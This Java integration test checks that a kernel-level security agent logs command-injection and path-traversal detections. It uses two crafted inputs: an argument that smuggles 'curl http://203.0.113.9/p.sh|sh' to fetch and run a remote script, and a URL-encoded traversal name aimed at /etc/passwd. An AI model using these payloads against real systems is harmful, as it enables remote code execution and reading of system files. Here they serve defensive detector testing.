package dev.twinlane.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.twinlane.detector.ThreatClass;
import dev.twinlane.records.DetectionField;
import dev.twinlane.records.RecordKind;
import dev.twinlane.records.RecordLayout;
import dev.twinlane.records.RecordView;
import dev.twinlane.wal.ChainVerifier;
import dev.twinlane.wal.KeyRing;
import dev.twinlane.wal.SealKey;
import dev.twinlane.wal.proof.Kinds;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;

/**
 * Through the real kernel: an exec of /bin/true with a crafted argv and an open of a file with a
 * crafted name under a watched directory are each followed, in the verified security log, by
 * their detection record. Needs root (BPF); the opens come from the openat tracepoint where
 * BPF-LSM is refused (watches are named, docs/CONFIGURATION.md).
 */
class DetectorPipelineTest {
    private static final String ARG = "x;%20curl http://203.0.113.9/p.sh|sh";
    private static final String NAME = "..%2f..%2f..%2fetc%2fpasswd";

    @TempDir
    Path tmp;

    @Test
    void flaggedExecAndOpenAreFollowedByTheirDetectionRecords() throws Exception {
        PipelineTest.requireRoot();
        Path data = tmp.resolve("data");
        Path watched = Files.createDirectories(tmp.resolve("watched"));
        Path crafted = Files.writeString(watched.resolve(NAME), "x\n");
        AgentConfig c = AgentConfig.defaults();
        c.dataDir = data;
        c.watch = List.of(watched + "/");
        SimpleMeterRegistry registry = new SimpleMeterRegistry();
        long pid;
        try (Pipeline p = Pipeline.start(c, registry, Pipeline.PLAIN)) {
            pid = PipelineTest.spawn("/bin/true", "--name", ARG);
            PipelineTest.spawn("/bin/cat", crafted.toString());
            Thread.sleep(500);
            assertTrue(registry.get("twinlane.detector.strings.scanned").functionCounter().count() >= 3);
            assertTrue(registry.get("twinlane.detector.hits").tag("class", "command_injection").functionCounter().count() >= 1);
            assertTrue(registry.get("twinlane.detector.hits").tag("class", "path_traversal").functionCounter().count() >= 1);
        }
        KeyRing keys = KeyRing.load(data.resolve("keys/security.key"));
        ChainVerifier.Report report = new ChainVerifier(keys, SealKey.loadPublic(data.resolve("keys/seal.pub")))
                .verify(data.resolve("security"), data.resolve("security/seal.latest"));
        assertTrue(report.ok(), report.line());
        Console verify = Console.run("verify", "--wal", data.resolve("security").toString(), "--key",
                data.resolve("keys/security.key").toString());
        assertEquals(0, verify.code(), verify.err());
        assertTrue(verify.out().matches("(?s)OK.*\\bdetection [1-9][0-9]*\\b.*"), "verify counts detection records: " + verify.out());
        System.out.print("verify: " + verify.out());

        List<LogContents.Entry> log = LogContents.security(data, keys);
        RecordView exec = null;
        RecordView execDetection = null;
        RecordView open = null;
        RecordView openDetection = null;
        for (int i = 0; i + 1 < log.size(); i++) {
            RecordView r = view(log.get(i));
            if (r == null) {
                continue;
            }
            if (r.kind() == RecordKind.DETECTION) {
                System.out.println("detection after " + view(log.get(i - 1)).kind().label() + ": " + r.text("comm") + " "
                        + r.text("rule") + " '" + r.text("evidence") + "'");
            }
            if (r.kind() == RecordKind.EXEC && r.number("tgid") == pid && r.text("filename").equals("/bin/true")) {
                exec = r;
                execDetection = view(log.get(i + 1));
            } else if (r.kind() == RecordKind.FILE_OPEN && r.text("path").equals(crafted.toString())) {
                open = r;
                openDetection = view(log.get(i + 1));
            }
        }
        assertNotNull(exec, "the exec of /bin/true is in the security log");
        assertDetection(exec, execDetection, DetectionField.EXEC_ARGS, ThreatClass.COMMAND_INJECTION);
        assertEquals(2, execDetection.number("arg_index"), "argv[2] holds the payload");
        String args = new String(exec.bytes(RecordLayout.EXEC.field("args").offset(), (int) exec.number("args_len")),
                StandardCharsets.UTF_8);
        assertTrue(span(args, execDetection).contains("curl"), span(args, execDetection));

        assertNotNull(open, "the open of the crafted name under the watched directory");
        assertDetection(open, openDetection, DetectionField.FILE_PATH, ThreatClass.PATH_TRAVERSAL);
        assertEquals((watched + "/").length(), openDetection.number("span_start"), "the span starts at the crafted name");
        assertTrue(span(open.text("path"), openDetection).startsWith("..%2f..%2f..%2f"), span(open.text("path"), openDetection));
    }

    private static void assertDetection(RecordView subject, RecordView d, DetectionField field, ThreatClass c) {
        assertNotNull(d, "a record after the subject");
        assertEquals(RecordKind.DETECTION, d.kind(), "the record right after the subject is its detection");
        assertEquals(subject.kindCode(), d.number("subject_kind"));
        assertEquals(field.code(), d.number("field"));
        assertEquals(c.code(), d.number("threat_class"));
        assertEquals(subject.number("tgid"), d.number("tgid"));
        assertEquals(subject.number("start_ns"), d.number("start_ns"), "the same exec_id");
        assertTrue(!d.text("rule").isEmpty() && d.number("rule_id") > 0);
        System.out.printf("%s %s -> %s rule %d %s span %d+%d evidence '%s'%n", subject.kind().label(), field.label(),
                c.label(), d.number("rule_id"), d.text("rule"), d.number("span_start"), d.number("span_len"),
                d.text("evidence"));
    }

    private static String span(String raw, RecordView d) {
        byte[] b = raw.getBytes(StandardCharsets.UTF_8);
        int start = (int) d.number("span_start");
        return new String(b, start, (int) d.number("span_len"), StandardCharsets.UTF_8);
    }

    private static RecordView view(LogContents.Entry e) {
        return e.kind() > Kinds.MAX_APP_KIND ? null : new RecordView().wrap(e.payload(), 0, e.payload().length);
    }
}
